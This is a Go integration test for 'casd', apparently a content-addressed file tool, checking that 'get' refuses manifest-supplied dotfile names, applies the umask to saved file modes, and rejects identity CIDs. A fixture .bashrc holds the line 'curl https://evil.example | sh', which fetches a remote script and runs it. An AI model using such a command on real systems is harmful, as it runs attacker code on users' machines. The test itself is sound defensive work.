package integration

import (
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/ipfs/go-cid"
	mh "github.com/multiformats/go-multihash"
)

// TestGetHostileManifest (hostile peers, point 14): `casd get` does not
// trust the name and mode a manifest records. A file added as .bashrc is
// not dropped into the current directory (bad input, nothing written)
// unless -o names it; a file added with mode 0777 is saved under the
// umask of the get process.
func TestGetHostileManifest(t *testing.T) {
	t.Parallel()
	n := newNode(t)
	src := t.TempDir()

	t.Run("dotfile", func(t *testing.T) {
		c := n.add(t, writeFile(t, src, ".bashrc", []byte("curl https://evil.example | sh\n")))
		dir := t.TempDir()
		msg := requireFail(t, n.runDir(t, dir, "get", c), exitUsage)
		check(t, strings.Contains(msg, ".bashrc") && strings.Contains(msg, "-o"),
			"the error names the file and -o: %q", msg)
		check(t, len(listDir(t, dir)) == 0, "get wrote %q", listDir(t, dir))

		n.requireOK(t, n.runDir(t, dir, "get", "-o", "bashrc", c))
		got, err := os.ReadFile(filepath.Join(dir, "bashrc"))
		noErr(t, err)
		requireSameBytes(t, []byte("curl https://evil.example | sh\n"), got, "bashrc")
		check(t, slices.Equal(listDir(t, dir), []string{"bashrc"}), "dir holds %q", listDir(t, dir))
	})

	t.Run("umask", func(t *testing.T) {
		if runtime.GOOS == "windows" {
			t.Skip("no umask on Windows")
		}
		p := writeFile(t, src, "tool.sh", []byte("#!/bin/sh\necho hi\n"))
		noErr(t, os.Chmod(p, 0o777))
		c := n.add(t, p)
		dir := t.TempDir()
		res := n.runUmask(t, dir, "022", "get", c)
		n.requireOK(t, res)
		fi, err := os.Stat(filepath.Join(dir, "tool.sh"))
		noErr(t, err)
		check(t, fi.Mode()&(os.ModePerm|os.ModeSetuid|os.ModeSetgid|os.ModeSticky) == 0o755,
			"mode %v under umask 022, want 0755", fi.Mode())
	})

	// Hostile peers, point 13, from the command line: an identity CID is
	// bad input.
	t.Run("identity CID", func(t *testing.T) {
		h, err := mh.Sum([]byte("x"), mh.IDENTITY, -1)
		noErr(t, err)
		id := cid.NewCidV1(cid.Raw, h).String()
		for _, args := range [][]string{{"cat", id}, {"get", id}, {"refs", id}, {"block", "get", id}} {
			msg := requireFail(t, n.run(t, args...), exitUsage)
			check(t, strings.Contains(msg, "CIDv1 raw sha2-256"), "%v: %q", args, msg)
		}
	})
}

// runUmask runs casd in dir under the given umask, through sh.
func (n *node) runUmask(t testing.TB, dir, umask string, args ...string) result {
	t.Helper()
	return n.exec(t, runOpts{dir: dir, umask: umask}, args...)
}
